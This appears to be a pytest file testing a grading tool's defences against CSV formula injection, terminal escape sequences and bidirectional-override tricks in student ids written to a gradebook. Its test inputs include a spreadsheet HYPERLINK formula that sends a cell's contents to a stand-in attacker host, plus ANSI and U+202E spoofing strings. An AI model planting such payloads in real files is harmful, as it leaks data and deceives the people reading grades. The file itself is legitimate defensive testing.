"""gradebook.csv opened in a spreadsheet: no student id becomes a formula, scores stay numbers."""

from __future__ import annotations

import csv

import pytest

from grader import kit
from grader.batch import BatchOptions, grade_batch
from grader.curriculum import of_module
from grader.gradebook import format_table, spreadsheet_text
from grader.spec import SubmissionResult
from grader.terminal import shown

FORMULA_IDS = ['=HYPERLINK("evil.example?leak="&B2,"open")', "+1", "-x", "@SUM(A1:A9)", "\tx", "\r=1", " =1+1"]


@pytest.mark.parametrize("student", FORMULA_IDS)
def test_a_student_id_that_would_start_a_formula_gets_a_leading_apostrophe(student):
    assert spreadsheet_text(student) == "'" + student


@pytest.mark.parametrize("student", ["ann", "o'brien", "x=1", "1+1", "a-b", "mail@example.org"])
def test_other_ids_are_kept_as_they_are(student):
    assert spreadsheet_text(student) == student


def test_the_gradebook_of_a_batch_with_formula_ids_has_no_formula_cell(tmp_path):
    """Attack: ids like `=HYPERLINK(...)`, `+1`, `-x`, `@SUM` were written as they are and ran as formulas."""
    students = [student for student in FORMULA_IDS if "\r" not in student] + ["ann"]  # "\r" is no folder name here
    for student in students:
        (tmp_path / "subs" / student).mkdir(parents=True)
        (tmp_path / "subs" / student / "derivatives.py").write_text(kit.solution_source("derivatives"))
    grade_batch(tmp_path / "subs", tmp_path / "out", BatchOptions())
    points = sum(exercise.points for exercise in of_module("derivatives"))
    with open(tmp_path / "out" / "gradebook.csv", newline="", encoding="utf-8") as stream:
        rows = list(csv.reader(stream))[1:]
    assert sorted(row[0] for row in rows) == sorted(spreadsheet_text(shown(student)) for student in students)
    for row in rows:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r", " "))
        assert float(row[1]) == float(row[2]) == points  # numbers stay numbers: no apostrophe on a score
        assert all(cell == "" or float(cell) >= 0 for cell in row[3:])


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_formula_cell_starts_inside_an_id_whatever_the_separator(tmp_path, separator):
    """Red team round 36, 01: `zoe;=HYPERLINK(...);` does not start a formula, and was written bare; a spreadsheet
    that splits CSV files on `;` (Excel in most European locales) started a cell at `=HYPERLINK(...)`. Every cell is
    quoted, so it is one cell whatever the separator."""
    students = ["zoe;=SUM(B2:B9);", "al|=1+1", "ann"]
    for student in students:
        (tmp_path / "subs" / student).mkdir(parents=True)
        (tmp_path / "subs" / student / "derivatives.py").write_text(kit.solution_source("derivatives"))
    grade_batch(tmp_path / "subs", tmp_path / "out", BatchOptions())
    with open(tmp_path / "out" / "gradebook.csv", newline="", encoding="utf-8") as stream:
        cells = [cell for row in csv.reader(stream, delimiter=separator) for cell in row]
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells), cells
    with open(tmp_path / "out" / "gradebook.csv", newline="", encoding="utf-8") as stream:
        assert sorted(row[0] for row in list(csv.reader(stream))[1:]) == sorted(students)


def test_the_terminal_table_escapes_control_characters_and_undecodable_bytes(tmp_path):
    hostile = "eve\x1b[2J\x1b]0;owned\x07\u202e" + b"\xff".decode("utf-8", "surrogateescape")
    (tmp_path / "subs" / hostile).mkdir(parents=True)
    summary = grade_batch(tmp_path / "subs", tmp_path / "out", BatchOptions())
    table = format_table(summary.results)
    assert "\x1b" not in table and "\x07" not in table and "\u202e" not in table
    assert "eve\\x1b[2J\\x1b]0;owned\\x07\\u202e\\udcff" in table


def test_the_gradebook_escapes_bidirectional_overrides_control_characters_and_undecodable_bytes(tmp_path):
    """Attack: an id holding U+202E (right-to-left override) was written raw, so that a text editor showed the rest
    of the line reversed (another score seemed to be the student's); a byte that is not UTF-8 is written `\\udcff`
    (as `\\xff` it read as the character U+00FF's escape)."""
    hostile = "eve\u202e52,52" + b"\xff".decode("utf-8", "surrogateescape") + "\x1b[2J"
    for student in (hostile, "José"):
        (tmp_path / "subs" / student).mkdir(parents=True)
    grade_batch(tmp_path / "subs", tmp_path / "out", BatchOptions())
    text = (tmp_path / "out" / "gradebook.csv").read_bytes().decode("utf-8")
    assert "\u202e" not in text and "\x1b" not in text
    ids = sorted(row[0] for row in list(csv.reader(text.splitlines()))[1:])
    assert ids == sorted(["eve\\u202e52,52\\udcff\\x1b[2J", "José"])


def test_no_two_folders_are_written_as_one_id(tmp_path):
    """Attack: the escaping was not one-to-one: `'=cmd` and `=cmd`, or a name holding the text `\\u202e` and one
    holding U+202E itself, were written as the same id (8 folders, 4 ids)."""
    from grader.gradebook import gradebook_id

    pairs = [("=cmd", "'=cmd"), ("bob\u202e", "bob\\u202e"), ("carol\x1b[2J", "carol\\x1b[2J"),
             ("dave" + b"\xff".decode("utf-8", "surrogateescape"), "dave\\xff"), ("'x", "x"), ("''x", "'x"),
             ("eve\x85", "eve" + b"\x85".decode("utf-8", "surrogateescape"))]  # U+0085 and the byte 0x85
    names = {name for pair in pairs for name in pair}
    assert len({gradebook_id(name) for name in names}) == len(names)
    assert gradebook_id("ann") == "ann" and gradebook_id("José") == "José" and gradebook_id("o'brien") == "o'brien"


def test_no_two_student_ids_look_alike_in_the_terminal_table():
    """Red team round 55, 06: the terminal table showed a folder holding an ESC and one named `\\x1b` alike."""
    students = ["alice\x1b", "alice\\x1b", "eve\x85", "eve" + b"\x85".decode("utf-8", "surrogateescape")]
    table = format_table([SubmissionResult(student, ()) for student in students])
    assert len({line.split()[0] for line in table.splitlines()[2:]}) == len(students), table
